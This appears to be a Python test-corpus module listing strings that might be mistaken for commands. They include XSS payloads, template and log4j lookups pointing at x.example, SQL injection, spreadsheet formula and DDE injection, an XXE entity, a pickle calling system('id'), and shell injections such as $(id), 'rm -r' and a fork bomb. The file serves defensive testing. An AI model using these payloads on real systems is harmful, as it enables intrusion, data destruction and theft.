"""Strings of the corpus that another program might take for orders: markup, templates, queries, sheets, shells, headers, paths.

All of them are words that somebody may say; each is kept to the letter.
"""

from tests.corpus.odd import as_typed, turned

MARKUP = as_typed(
    "markup",
    {
        "bold": "<b>Henk</b>", "script": "<script>alert(1)</script>", "script-broken": "<scr<script>ipt>alert(1)</script>", "script-upper": "<ScRiPt SRC=//x.example/a.js>",
        "img-onerror": "<img src=x onerror=alert(1)>", "svg-onload": "<svg onload=alert(1)>", "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x>#x"/></svg>', "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "mathml": '<math><mtext><table><mglyph><style><img src="</style><img src=x onerror=alert(1)>">', "iframe": "<iframe srcdoc='<script>parent.x=1</script>'>", "iframe-js": "<iframe src=javascript:alert(1)>", "object": "<object data=/leiden></object>",
        "embed": "<embed src=//x.example>", "base": "<base href=//x.example/>", "meta-refresh": "<meta http-equiv=refresh content=0;url=//x.example>", "link-css": "<link rel=stylesheet href=//x.example/a.css>", "style": "<style>*{display:none}</style>",
        "form": "<form action=/taal><button name=lang value=tr>Ja</button></form>", "input-focus": "<input autofocus onfocus=alert(1)>", "details": "<details open ontoggle=alert(1)>", "marquee": "<marquee onstart=alert(1)>", "template": "<template><slot name=x>",
        "comment-open": "<!-- weg", "comment-close": "weg --> hier", "cdata": "<![CDATA[ x ]]>", "doctype": "<!doctype html>", "plaintext": "<plaintext>", "noscript": "</noscript><b>x", "title-end": "</title><b>x", "textarea-end": "</textarea><b>x",
        "body-end": "</body></html>", "p-end": "</p></blockquote><h1>Nep</h1>", "bdi-end": "</bdi></span><b>x", "attribute-double": '" onmouseover="alert(1)', "attribute-single": "' onfocus='alert(1)", "attribute-backtick": "` onerror=alert(1) `",
        "attribute-close": '"><img src=x onerror=alert(1)>', "value-close": 'Henk"/><script>1</script>', "data-attribute": '" data-desk="facilitator', "id-clobber": "<a id=live name=live>", "dir-rtl": '<p dir="rtl">', "entity": "&lt;b&gt; &amp; &quot;", "entity-number": "&#60;b&#62; &#x3c;",
        "entity-bare": "&copy &notit; &", "less-than": "1 < 2 > 0", "heart": "<3", "ampersand": "Jansen & Zn.", "js-url": "javascript:alert(1)", "js-url-upper": "JaVaScRiPt://%0aalert(1)", "data-url": "data:text/html,<script>alert(1)</script>", "vbscript": "vbscript:x",
        "css": "};*{color:red}", "css-expression": "expression(alert(1))", "css-url": "url(//x.example/a)", "css-var": "var(--x,red)", "lit-marker": "<!--?lit$1234$-->", "lit-attribute": "{{lit-1234}} ?lit$", "xss-polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
    },
)  # fmt: skip

TEMPLATES = as_typed(
    "template",
    {
        "jinja": "{{ 7*7 }}", "jinja-tight": "{{7*7}}", "jinja-config": "{{ config.SECRET_KEY }}", "jinja-statement": "{% for x in y %}", "jinja-comment": "{# weg #}", "jinja-class": "{{ ''.__class__.__mro__[1] }}", "percent-s": "%s %d %n", "percent-name": "%(name)s", "percent-100": "100% zeker",
        "percent-many": "%s" * 30, "percent-last": "50%", "brace": "{0} {name} {}", "brace-attribute": "{x.__class__}", "brace-half": "{ {name", "dollar": "${7*7}", "dollar-env": "$HOME ${PATH}", "dollar-group": "$1 $& $`", "backslash-group": "\\1 \\g<0>", "erb": "<%= 7*7 %>", "ssi": '<!--#exec cmd="id"-->',
        "lit-template": "${x} `html`", "angular": "{{constructor.constructor('x')()}}", "mustache": "{{{x}}}", "icu": "{n, plural, one{x} other{y}}", "mark-name": '{"$name": "s1"}', "mark-text": '{"$text": "w1"}', "placeholder": '{"_placeholder":true,"num":0}', "printf-star": "%*.*f %999999999d", "log4j": "${jndi:ldap://x.example/a}",
    },
)  # fmt: skip

QUERIES = as_typed(
    "query",
    {
        "drop": "'; DROP TABLE words;--", "or": "' OR '1'='1", "union": "1 UNION SELECT salt FROM words", "comment": "Henk'/*", "double": '" OR ""="', "like": "%_%", "backslash-quote": "\\'", "bind": ":name ?1 @x $1", "null-word": "NULL", "sleep": "1; SELECT pg_sleep(9)", "copy": "COPY x TO PROGRAM 'id'",
        "dollar-quote": "$$; x $$", "pragma": "PRAGMA secure_delete=0", "ldap": "*)(uid=*))(|(uid=*", "xpath": "' or count(/*)=1 or '", "mongo": '{"$gt": ""}', "graphql": "{__schema{types{name}}}", "regex-bomb": "(a+)+$", "regex-many": "a" * 60 + "!", "glob": "[a-z]*{x,y}?",
    },
)  # fmt: skip

SHEETS = [
    *as_typed(
        "sheet",
        {
            "equals": "=1+1", "equals-cmd": "=cmd|' /C calc'!A0", "plus": "+31612345678", "minus": "-2+3", "at": "@SUM(A1)", "hyperlink": '=HYPERLINK("http://x.example","x")', "dde": "=DDE(\"cmd\";\"x\")", "fullwidth-equals": "＝1+1", "quote-first": "'=1+1", "semicolon": ";a;b", "comma": "a,b,c",
            "quotes": '"a""b"', "pipe": "a|b", "import": '=IMPORTXML("http://x.example")', "minus-list": "- brood\n- melk", "equals-line": "ja\n=1+1",
        },
    ),
    *turned("sheet", {"tab-equals": ("\t=1+1", "=1+1"), "cr-equals": ("\r=1+1", "=1+1"), "lf-equals": ("\n=1+1", "=1+1"), "space-equals": (" =1+1", "=1+1")}),
]  # fmt: skip

STRUCTURES = as_typed(
    "structure",
    {
        "xml-entity": '<!ENTITY x SYSTEM "file:///etc/hostname">', "xml-bomb": '<!DOCTYPE x [<!ENTITY a "aaa">]><x>&a;</x>', "xml-declaration": '<?xml version="1.0"?>', "yaml-tag": "!!python/object:os.x", "yaml-anchor": "&a [*a]", "yaml-lines": "---\n- no: yes", "json": '{"answer": "ok", "version": 1}', "json-end": '"}],"x":["',
        "json-array": "[[[[]]]]", "proto": "__proto__", "constructor": "constructor", "prototype": "prototype.x", "to-string": "toString", "has-own": "hasOwnProperty", "value-of": "valueOf", "then": "then", "proto-json": '{"__proto__": {"x": 1}}', "class": "__class__", "init": "__init__", "undefined": "undefined", "null": "null",
        "none": "None", "true": "true", "false": "False", "object": "[object Object]", "python-repr": "b'\\x00'", "backslash": "\\", "backslash-n": "\\n\\r\\t\\0", "backslash-u": "\\u202e\\x00", "quote": '"', "apostrophe": "'", "backtick": "`", "pickle": "cos\nsystem\n(S'id'\ntR.", "toml": "[x]\ny = 1", "ini": "[DEFAULT]\nx = %(y)s",
        "markdown": "# Kop\n**vet** [x](javascript:1)", "latex": "\\input{/etc/hostname}", "rtf": "{\\rtf1}", "ical": "END:VEVENT\nBEGIN:VALARM", "po": 'msgid ""\nmsgstr ""', "socketio": '42["command",{}]', "engineio": "41", "comma-only": ",", "dot-only": ".",
    },
)  # fmt: skip

SYSTEMS = [
    *as_typed(
        "system",
        {
            "shell": "$(id)", "shell-ticks": "`id`", "shell-semicolon": "; rm -r x", "shell-pipe": "| cat /etc/hostname", "shell-and": "&& id", "shell-redirect": "> /tmp/x", "shell-dash": "-rf", "shell-option": "--help", "fork": ":(){ :|:& };:", "batch": "%PATH% & dir",
            "path-up": "../../etc/hostname", "path-up-windows": "..\\..\\x", "path-dots": "....//....//x", "path-absolute": "/etc/hostname", "path-unc": "\\\\x.example\\y", "path-file-url": "file:///etc/hostname", "path-home": "~root", "file-con": "CON", "file-nul": "NUL.txt", "file-lpt": "LPT1", "file-dot": "..",
            "file-dots": ".htaccess", "file-colon": "a:b", "file-trailing": "x.", "file-long": "x" * 60 + ".txt", "overlong-slash": "%c0%af..%c0%af", "percent-nul": "%00", "percent-crlf": "%0d%0aSet-Cookie: x=1", "percent-double": "%252e%252e", "percent-bad": "%zz%", "percent-surrogate": "%ED%A0%80", "plus-space": "a+b%20c",
            "query": "a=1&b=2#c", "header": "X: y", "url": "https://x.example/?q=<b>", "url-user": "https://bank.example@x.example", "url-idn": "http://xn--e1afmkfd.example", "url-slashes": "//x.example", "url-backslashes": "/\\x.example", "url-spaces": "ht tp://x", "ipv6": "http://[::1]/", "mail": "henk@buurt.example",
            "mail-odd": '"a b"@[127.0.0.1]', "mailto": "mailto:x@y.example?cc=z", "phone": "06-12 34 56 78", "phone-international": "+31 (0)6 12345678", "host": "localhost", "log-line": "ERROR dialoog: weg", "log-level": "[CRITICAL] root", "env": "DIALOOG_SECRET=x",
        },
    ),
    *turned("system", {"crlf-header": ("x\r\nSet-Cookie: y=1", "x\nSet-Cookie: y=1"), "crlf-body": ("x\r\n\r\n<b>y", "x\n\n<b>y"), "log-forged": ("x\n2026-11-26 ERROR dialoog: y", "x\n2026-11-26 ERROR dialoog: y"), "smtp": ("x\r\n.\r\nQUIT", "x\n.\nQUIT")}),
]  # fmt: skip

STRINGS = [*MARKUP, *TEMPLATES, *QUERIES, *SHEETS, *STRUCTURES, *SYSTEMS]
